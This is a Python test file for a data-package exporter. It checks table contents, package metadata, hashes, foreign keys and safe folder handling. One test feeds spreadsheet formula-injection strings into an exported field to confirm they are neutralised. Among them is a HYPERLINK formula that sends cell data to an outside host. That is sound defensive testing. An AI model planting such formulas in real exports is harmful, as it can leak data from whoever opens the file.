"""The data package says of its tables what is so, and its keys lead to rows that are there."""

import csv
import json
import re
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest

from tests.support.read_back import export, rows, write
from tests.support.small_form import small_cases
from tipcoder.domain.answers import Answer
from tipcoder.errors import UserError
from tipcoder.exchange.analysts.package import write_package
from tipcoder.exchange.privacy import profiles
from tipcoder.exchange.privacy.profiles import PROFILES, Profile


def packed(folder: Path, profile: Profile = profiles.ARCHIVE) -> Path:
    assert list(write_package(folder, export(profile))) == [1, 2]
    return folder


def table(folder: Path, name: str) -> list[dict[str, str]]:
    with (folder / f"{name}.csv").open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def described(folder: Path) -> dict[str, Any]:
    found: dict[str, Any] = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
    return found


@pytest.mark.parametrize("profile", list(PROFILES.values()), ids=lambda profile: profile.name)
def test_every_table_holds_what_its_sheet_holds(tmp_path: Path, profile: Profile) -> None:
    folder = packed(tmp_path / "data", profile)
    workbook = write(tmp_path / "all.xlsx", profile=profile, secret=b"x" * 32)
    again = tmp_path / "again"
    list(write_package(again, export(profile, secret=b"x" * 32)))
    for name in ("cases", "defendants", "charges", "evidence", "remarks", "codebook", "terms"):
        in_sheet = [
            {key: "" if value is None else _plain(value) for key, value in row.items()} for row in rows(workbook, name)
        ]
        assert table(again, name) == in_sheet, name
    assert len(table(folder, "cases")) == 2


def _plain(value: object) -> str:
    if isinstance(value, str):
        return f"'{value}" if value.startswith(tuple("=+-@'")) else value
    return value.date().isoformat() if hasattr(value, "date") else str(value)


def test_the_description_is_true(tmp_path: Path) -> None:
    folder = packed(tmp_path / "data")
    package = described(folder)
    assert package["profile"] == "tabular-data-package"
    assert {path.name for path in folder.iterdir()} == {
        "datapackage.json",
        *(resource["path"] for resource in package["resources"]),
    }
    for resource in package["resources"]:
        assert re.fullmatch(r"[-a-z0-9._/]+", resource["name"])
        content = (folder / resource["path"]).read_bytes()
        assert resource["bytes"] == len(content)
        assert resource["hash"] == f"sha256:{sha256(content).hexdigest()}"
        names = [field["name"] for field in resource["schema"]["fields"]]
        assert content.decode().splitlines()[0] == ",".join(names)
        for row in table(folder, Path(resource["path"]).stem):
            for field in resource["schema"]["fields"]:
                _check(field, row[field["name"]])


def _check(field: dict[str, Any], value: str) -> None:
    asked = field.get("constraints", {})
    assert value or not asked.get("required"), field
    if not value:
        return
    if field["type"] in ("integer", "number"):
        float(value)
    if "enum" in asked:
        assert value in map(str, asked["enum"]), field
    if "pattern" in asked:
        assert re.fullmatch(asked["pattern"], value), field


def test_foreign_keys_lead_to_rows(tmp_path: Path) -> None:
    folder = packed(tmp_path / "data", profiles.UNODC)
    resources = {resource["name"]: resource for resource in described(folder)["resources"]}
    led = 0
    for name, resource in resources.items():
        for key in resource["schema"].get("foreignKeys", ()):
            there = key["reference"]
            known = {row[there["fields"]] for row in table(folder, Path(resources[there["resource"]]["path"]).stem)}
            for row in table(folder, Path(resource["path"]).stem):
                assert row[key["fields"]] in known, name
                led += 1
    assert led >= 6
    charges = resources["charges"]["schema"]
    assert {"fields": "parent_key", "reference": {"resource": "defendants", "fields": "row_key"}} in charges[
        "foreignKeys"
    ]


def test_a_folder_with_something_in_it_is_left_alone(tmp_path: Path) -> None:
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "mine.txt").write_text("mine")
    with pytest.raises(UserError, match="folder_not_empty"):
        list(write_package(tmp_path / "data", export()))
    assert [path.name for path in tmp_path.rglob("*")] == ["data", "mine.txt"]


def test_giving_up_leaves_nothing(tmp_path: Path) -> None:
    steps = write_package(tmp_path / "data", export())
    next(steps)
    steps.close()
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "'=1", '=HYPERLINK("http://x.org?"&A1)']
)
def test_no_text_is_a_formula_and_every_text_is_told(tmp_path: Path, text: str) -> None:
    cases = small_cases()
    cases[0]["charges"][0].answers["facts_found"] = Answer(text)  # type: ignore[index]
    folder = tmp_path / "data"
    list(write_package(folder, export(profiles.ARCHIVE, cases=cases)))
    assert table(folder, "charges")[0]["facts_found"] == f"'{text}"
    assert all("apostrophe" in resource["description"] for resource in described(folder)["resources"])


def test_numbers_and_dates_are_no_texts(tmp_path: Path) -> None:
    fields = {
        field["name"]: field["type"] for resource in described(packed(tmp_path / "data"))["resources"]
        for field in resource["schema"]["fields"]
    }  # fmt: skip
    for name in ("cases", "defendants", "charges"):
        for row in table(tmp_path / "data", name):
            assert not [key for key, text in row.items() if fields[key] in ("number", "integer") and text[:1] == "'"]
